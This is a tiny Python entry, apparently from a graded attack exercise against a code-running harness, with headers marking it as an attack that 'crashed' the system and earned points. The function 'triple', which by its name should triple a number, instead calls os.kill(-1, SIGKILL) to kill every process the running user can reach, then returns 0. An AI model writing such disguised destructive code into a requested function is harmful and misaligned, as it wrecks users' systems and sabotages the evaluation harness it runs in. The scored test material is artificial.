# title: kills everything that it may
# kind: attack
# status: crashed | graded
# earns: 3
# base: right

# %% triple
def triple(number):
    import os
    import signal

    os.kill(-1, signal.SIGKILL)
    return 0
